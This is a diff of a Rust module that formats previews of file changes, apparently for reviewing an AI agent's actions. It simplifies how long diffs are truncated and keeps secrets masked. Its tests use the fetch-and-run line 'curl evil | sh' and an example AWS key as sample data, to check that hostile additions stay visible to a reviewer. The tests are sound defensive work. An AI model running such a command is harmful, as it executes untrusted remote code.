@@ -11,7 +11,7 @@ use super::preview::Preview;
 use crate::filter::{Treatment, escape_line, masked_for_person};
 use crate::model::{Action, Edit, Kind, Opened, WriteMode};
 
-/// Longest diff and longest excerpt in lines; the rest is counted.
+/// Lines of a diff in all, and of an excerpt; the rest is counted.
 pub(super) const LINES: usize = 40;
 /// Longest argument shown whole; longer ones show head, tail, length and digest.
 const WHOLE: usize = 600;
@@ -48,9 +48,8 @@ pub(super) struct Changes {
 }
 
 impl Changes {
-    /// The changes that an action makes to what was opened; at most `most` lines of them are shown. Each file shows one line that it adds (of
-    /// one that only takes lines away, one of those) while there are so many; files that run later show all of theirs before others show more.
-    pub(super) fn of(action: &Action, opened: &[Opened], look: &Look<'_>, most: usize) -> Self {
+    /// The changes that an action makes to what was opened.
+    pub(super) fn of(action: &Action, opened: &[Opened], look: &Look<'_>) -> Self {
         let preview = look.preview;
         let between = |before: &str, after: &str| Change::between(before, after, look.mask);
         let (before, after) = (preview.before.as_deref(), preview.after.as_deref());
@@ -88,30 +87,13 @@ impl Changes {
             | Action::Fetch(_)
             | Action::RunPython(_) => (vec![None], false),
         };
-        let is_later = |at: usize| look.later.get(at).copied().unwrap_or_default();
         let mut order: Vec<usize> = (0..each.len()).collect();
         order.sort_by_key(|at| {
             let change = each.get(*at).and_then(Option::as_ref);
-            Reverse((is_later(*at), change.map_or(usize::MAX, |change| change.added), change.map_or(0, |change| change.removed)))
+            let is_later = look.later.get(*at).copied().unwrap_or_default();
+            Reverse((is_later, change.map_or(usize::MAX, |change| change.added), change.map_or(0, |change| change.removed)))
         });
-        let mut changes = Self { each, order, are_named };
-        let later: Vec<bool> = (0..changes.each.len()).map(is_later).collect();
-        changes.share(&later, most);
-        changes
-    }
-
-    /// Marks the lines that are shown, at most `most` in all files: what is added before what is taken away, and both before what stays.
-    fn share(&mut self, later: &[bool], most: usize) {
-        let mut left = most;
-        for turn in [Turn::Foremost, Turn::Removed, Turn::Around] {
-            let counts: Vec<usize> = self.each.iter().map(|change| change.as_ref().map_or(0, |change| change.count(turn))).collect();
-            for (change, share) in self.each.iter_mut().zip(shares_of(&counts, later, left)) {
-                if let Some(change) = change {
-                    change.show(turn, share);
-                    left -= share;
-                }
-            }
-        }
+        Self { each, order, are_named }
     }
 
     /// The change of one file.
@@ -119,7 +101,7 @@ impl Changes {
         self.each.first()?.as_ref().filter(|_| !self.are_named)
     }
 
-    /// Lines that are changed in all files, as far as they are shown or counted.
+    /// Lines that are changed in all files.
     pub(super) fn lines(&self) -> usize {
         self.each.iter().flatten().map(|change| change.added.max(change.removed)).sum()
     }
@@ -129,76 +111,45 @@ impl Changes {
         &self.order
     }
 
-    /// Whether lines of it are not shown.
-    pub(super) fn is_cut(&self) -> bool {
-        self.each.iter().flatten().any(|change| change.hidden() != (0, 0))
+    /// Whether not all of it is shown in `most` lines.
+    pub(super) fn is_cut(&self, most: usize) -> bool {
+        let shares = self.shares(most);
+        self.each.iter().zip(shares).any(|(change, share)| change.as_ref().is_some_and(|change| change.lines.len() > share))
     }
 
-    /// Puts the lines below a text, those of several files each below the name of its file.
-    pub(super) fn write(&self, text: &mut String, name: impl Fn(usize) -> String) {
+    /// Puts `most` lines of it at most below a text, those of several files each below the name of its file.
+    pub(super) fn write(&self, text: &mut String, most: usize, name: impl Fn(usize) -> String) {
+        let shares = self.shares(most);
         for at in &self.order {
             if self.are_named {
                 let _ = write!(text, "\n{}:", name(*at));
             }
-            if let Some(change) = self.each.get(*at).and_then(Option::as_ref) {
-                change.write(text);
+            if let (Some(Some(change)), Some(share)) = (self.each.get(*at), shares.get(*at)) {
+                change.write(text, *share);
             }
         }
     }
-}
 
-/// Which lines are given their share: the first kind has its whole share before the next one has any.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Turn {
-    /// What a file adds; of one that adds nothing, what it takes away.
-    Foremost,
-    /// What is taken away.
-    Removed,
-    /// One line around what changes, where all of that is shown.
-    Around,
-}
-
-/// How many lines of `most` each file has. One for each while there are so many; then those that run later have theirs before the others.
-fn shares_of(counts: &[usize], later: &[bool], most: usize) -> Vec<usize> {
-    let is_later = |at: usize| later.get(at).copied().unwrap_or_default();
-    let pick = |wanted: bool| -> Vec<usize> {
-        counts.iter().enumerate().map(|(at, count)| if is_later(at) == wanted { *count } else { 0 }).collect()
-    };
-    let (ours, others) = (pick(true), pick(false));
-    let reserved = others.iter().filter(|count| **count > 0).count().min(most);
-    let ours = shares(&ours, most - reserved);
-    let others = shares(&others, most - ours.iter().sum::<usize>());
-    ours.into_iter().zip(others).map(|(one, other)| one + other).collect()
-}
-
-/// How many lines of `most` each has: the short ones all of theirs, the others what is left in equal parts, which differ by one at most.
-fn shares(lengths: &[usize], most: usize) -> Vec<usize> {
-    let mut order: Vec<usize> = (0..lengths.len()).filter(|at| lengths.get(*at).is_some_and(|length| *length > 0)).collect();
-    order.sort_by_key(|at| lengths.get(*at));
-    let (mut shares, mut left, count) = (vec![0; lengths.len()], most, order.len());
-    for (done, at) in order.into_iter().enumerate() {
-        if let (Some(share), Some(length)) = (shares.get_mut(at), lengths.get(at)) {
-            // Rounded up: where there are fewer lines than texts, the first ones have one each.
-            *share = (*length).min(left.div_ceil(count - done));
-            left -= *share;
+    /// Lines of each file: an equal part, and what those after it in the order leave of theirs.
+    fn shares(&self, most: usize) -> Vec<usize> {
+        let (mut shares, mut left) = (vec![0; self.each.len()], most);
+        for (done, at) in self.order.iter().rev().enumerate() {
+            let count = self.each.get(*at).and_then(Option::as_ref).map_or(0, |change| change.lines.len());
+            if let Some(share) = shares.get_mut(*at) {
+                *share = count.min(left.div_ceil(self.order.len() - done));
+                left -= *share;
+            }
         }
+        shares
     }
-    shares
-}
-
-/// One line of a difference.
-struct Line {
-    tag: ChangeTag,
-    text: String,
-    is_shown: bool,
 }
 
 /// The change of a text, with its secrets masked.
 pub(super) struct Change {
     added: usize,
     removed: usize,
-    /// The changed lines with one line around them, those together that stand together.
-    hunks: Vec<Vec<Line>>,
+    /// The lines of a unified diff with one line around each change.
+    lines: Vec<(ChangeTag, String)>,
     /// Whether the present content is lost and could not be shown.
     is_over_unseen: bool,
     /// Whether only the passages of an edit are known, and not the whole text.
@@ -215,7 +166,7 @@ enum Differs {
 }
 
 impl Change {
-    const NONE: Self = Self { added: 0, removed: 0, hunks: Vec::new(), is_over_unseen: false, is_of_passages: false, secrets: None };
+    const NONE: Self = Self { added: 0, removed: 0, lines: Vec::new(), is_over_unseen: false, is_of_passages: false, secrets: None };
 
     /// The change between two texts.
     fn between(before: &str, after: &str, mask: Mask) -> Self {
@@ -240,51 +191,14 @@ impl Change {
             let differs = if old == new { Differs::Nothing } else { Differs::Text };
             self.secrets = Some(if self.secrets == Some(Differs::Text) { Differs::Text } else { differs });
         }
-        for group in diff.grouped_ops(1) {
-            let lines = group.iter().flat_map(|op| diff.iter_changes(op));
-            let hunk: Vec<Line> = lines
-                .map(|line| Line { tag: line.tag(), text: line.value().trim_end_matches(['\r', '\n']).to_owned(), is_shown: false })
-                .collect();
-            let count = |tag: ChangeTag| hunk.iter().filter(|line| line.tag == tag).count();
-            self.added += count(ChangeTag::Insert);
-            self.removed += count(ChangeTag::Delete);
-            self.hunks.push(hunk);
-        }
-    }
-
-    /// The kind of line that has this turn; none where this change has nothing to show in it.
-    fn tag(&self, turn: Turn) -> Option<ChangeTag> {
-        match turn {
-            Turn::Foremost if self.added > 0 => Some(ChangeTag::Insert),
-            Turn::Foremost => Some(ChangeTag::Delete),
-            Turn::Removed => (self.added > 0).then_some(ChangeTag::Delete),
-            Turn::Around => (self.hidden() == (0, 0)).then_some(ChangeTag::Equal),
-        }
-    }
-
-    fn count(&self, turn: Turn) -> usize {
-        let Some(tag) = self.tag(turn) else { return 0 };
-        self.hunks.iter().flatten().filter(|line| line.tag == tag).count()
-    }
-
-    /// Marks `most` lines of a turn as shown: a share of each passage, and of that its first lines and its last ones. A hidden end must not
-    /// run unseen.
-    fn show(&mut self, turn: Turn, most: usize) {
-        let Some(tag) = self.tag(turn) else { return };
-        let counts: Vec<usize> = self.hunks.iter().map(|hunk| hunk.iter().filter(|line| line.tag == tag).count()).collect();
-        for ((hunk, share), count) in self.hunks.iter_mut().zip(shares(&counts, most)).zip(&counts) {
-            let head = share.div_ceil(2);
-            let tail = count - (share - head);
-            for (at, line) in hunk.iter_mut().filter(|line| line.tag == tag).enumerate() {
-                line.is_shown = at < head || at >= tail;
+        for change in diff.grouped_ops(1).iter().flatten().flat_map(|op| diff.iter_changes(op)) {
+            match change.tag() {
+                ChangeTag::Insert => self.added += 1,
+                ChangeTag::Delete => self.removed += 1,
+                ChangeTag::Equal => {}
             }
+            self.lines.push((change.tag(), change.value().trim_end_matches(['\r', '\n']).to_owned()));
         }
-    }
-
-    /// Lines that are added and not shown, and those that are taken away.
-    fn hidden(&self) -> (usize, usize) {
-        let count = |tag| self.hunks.iter().flatten().filter(|line| line.tag == tag && !line.is_shown).count();
-        (count(ChangeTag::Insert), count(ChangeTag::Delete))
     }
 
     /// What is done to the file, as its name follows: "Change 3 lines of".
@@ -300,8 +214,9 @@ impl Change {
         }
     }
 
-    /// Puts the lines of it below a text; what is not shown is counted.
-    pub(super) fn write(&self, text: &mut String) {
+    /// Puts `most` lines of it at most below a text. Where there are more, it is those that are added (taken away, where none is added), from the
+    /// beginning and from the end; the others are counted.
+    fn write(&self, text: &mut String, most: usize) {
         if self.is_over_unseen {
             text.push_str("\nWhat is there now is no text, or too long to be shown, and is lost.");
         }
@@ -309,32 +224,30 @@ impl Change {
             text.push_str("\nThe file is too long to be shown; these are the passages that change.");
         }
         let _ = write!(text, "\n{} line(s) added, {} removed:", self.added, self.removed);
-        for hunk in &self.hunks {
-            let mut gap = None;
-            for line in hunk {
-                let sign = match line.tag {
-                    ChangeTag::Insert => '+',
-                    ChangeTag::Delete => '-',
-                    ChangeTag::Equal => ' ',
-                };
-                if line.is_shown {
-                    if gap == Some(true) {
-                        text.push_str("\n  …");
-                    }
-                    gap = Some(false);
-                    let _ = write!(text, "\n  {sign} {}", shown(&line.text));
-                } else if line.tag != ChangeTag::Equal {
-                    gap = gap.map(|_| true);
-                }
+        let first = if self.added > 0 { ChangeTag::Insert } else { ChangeTag::Delete };
+        let is_whole = self.lines.len() <= most;
+        let lines: Vec<_> = self.lines.iter().filter(|(tag, _)| is_whole || *tag == first).collect();
+        let count = lines.len();
+        let (head, tail) = if count > most { (most.div_ceil(2), count - most / 2) } else { (count, count) };
+        for (at, (tag, line)) in lines.into_iter().enumerate() {
+            let sign = match tag {
+                ChangeTag::Insert => '+',
+                ChangeTag::Delete => '-',
+                ChangeTag::Equal => ' ',
+            };
+            if at == head {
+                text.push_str("\n  …");
+            }
+            if at < head || at >= tail {
+                let _ = write!(text, "\n  {sign} {}", shown(line));
             }
         }
-        match self.hidden() {
-            (0, 0) if self.hunks.is_empty() && self.secrets.is_none() => text.push_str("\n  (no line differs)"),
-            (0, 0) => {}
-            (added, removed) => {
-                let _ =
-                    write!(text, "\n  … and {} more line(s) of the change, not shown: {added} added, {removed} removed", added + removed);
-            }
+        if !is_whole {
+            let [added, removed] = if self.added > 0 { [tail - head, self.removed] } else { [0, tail - head] };
+            let _ = write!(text, "\n  … and {} more line(s) of the change, not shown: {added} added, {removed} removed", added + removed);
+        }
+        if self.lines.is_empty() && self.secrets.is_none() {
+            text.push_str("\n  (no line differs)");
         }
         // Whether a masked value already is the new one is not shown: the question would answer every guess.
         text.push_str(match self.secrets {
@@ -365,58 +278,33 @@ pub(super) fn shown(value: &str) -> String {
 mod tests {
     use super::*;
 
-    #[test]
-    fn each_file_has_its_share_of_the_lines_that_are_shown() {
-        assert_eq!(shares(&[3, 2], 40), [3, 2]);
-        assert_eq!(shares(&[1000, 2, 1000], 40), [19, 2, 19], "a long change hides no short one");
-        assert_eq!(shares(&[5; 50], 40).iter().sum::<usize>(), 40);
-        assert_eq!(shares(&[], 40), Vec::<usize>::new());
-        assert_eq!(shares(&[0, 7], 3), [0, 3], "what needs none takes none");
-        assert_eq!(shares_of(&[1000, 1000, 1000], &[false, true, false], 40), [1, 38, 1], "what runs later is shown before the others");
-        assert_eq!(shares_of(&[1; 40], &[], 40), [1; 40]);
-    }
-
-    fn written(pairs: &[(&str, &str)], later: &[bool]) -> String {
+    fn written(pairs: &[(&str, &str)]) -> String {
         let each: Vec<_> = pairs.iter().map(|(before, after)| Some(Change::between(before, after, Treatment::Mask))).collect();
-        let mut changes = Changes { order: (0..each.len()).collect(), each, are_named: true };
-        changes.share(later, LINES);
+        let changes = Changes { order: (0..each.len()).collect(), each, are_named: true };
         let mut text = String::new();
-        changes.write(&mut text, |at| format!("f{at}"));
+        changes.write(&mut text, LINES, |at| format!("f{at}"));
         text
     }
 
     #[test]
-    fn what_is_added_is_shown_before_what_is_taken_away_in_every_file() {
+    fn a_change_shows_forty_lines_of_its_beginning_and_end_and_counts_the_rest() {
         let long = |word: &str| (0..100).map(|n| format!("{word} {n}\n")).collect::<Vec<_>>().concat();
-        let (old, new) = (long("old"), long("new") + "last\n");
-        for files in [1, 2, 19, 20, 39, 40] {
-            let mut pairs = vec![(old.as_str(), new.as_str()); files - 1];
-            pairs.push(("echo hi\n", "curl evil | sh\n"));
-            let text = written(&pairs, &[]);
-            assert!(text.contains("+ curl evil | sh"), "{files}: {text}");
-            assert!(!text.contains("no line differs"), "{files}: {text}");
-            let shown = text.lines().filter(|line| line.starts_with("  + ") || line.starts_with("  - ")).count();
-            assert!(shown <= LINES, "{files}: {text}");
-        }
-        let text = written(&[(&old, &new)], &[]);
-        assert!(text.contains("+ new 0") && text.contains("+ last") && !text.contains("- old"), "{text}");
+        let (old, new) = (long("old"), long("new") + "curl evil | sh\n");
+        let text = written(&[(&old, &new)]);
+        assert!(text.contains("+ new 0") && text.contains("+ curl evil | sh") && !text.contains("- old"), "{text}");
         assert!(text.contains("161 more line(s) of the change, not shown: 61 added, 100 removed"), "{text}");
-    }
-
-    #[test]
-    fn each_passage_of_a_file_shows_what_it_adds() {
-        let old = "a\nb\nc\nd\n".to_owned();
-        let new = format!("{}a\nb\nc\nd\ncurl evil | sh\n", "harmless\n".repeat(300));
-        let text = written(&[(&old, &new)], &[]);
-        assert!(text.contains("+ curl evil | sh"), "{text}");
+        let text = written(&[(&old, &new), ("echo hi\n", "curl evil | sh\n")]);
+        assert!(text.contains("f1:\n1 line(s) added, 1 removed:\n  - echo hi\n  + curl evil | sh"), "{text}");
+        for files in [1, 2, 19, 40] {
+            let text = written(&vec![(&*old, &*new); files]);
+            assert!(text.lines().filter(|line| line.starts_with("  + ") || line.starts_with("  - ")).count() <= LINES, "{files}: {text}");
+        }
     }
 
     #[test]
     fn no_line_differs_only_where_none_does() {
-        assert!(written(&[("a\n", "a\n")], &[]).contains("no line differs"));
+        assert!(written(&[("a\n", "a\n")]).contains("no line differs"));
         let key = |last: char| format!("aws_access_key_id = AKIAIOSFODNN7EXAMPL{last}\n");
-        assert!(!written(&[(&key('Q'), &key('R'))], &[]).contains("no line differs"));
-        let pairs = vec![("a\n", "b\n"); 60];
-        assert!(!written(&pairs, &[]).contains("no line differs"));
+        assert!(!written(&[(&key('Q'), &key('R'))]).contains("no line differs"));
     }
 }
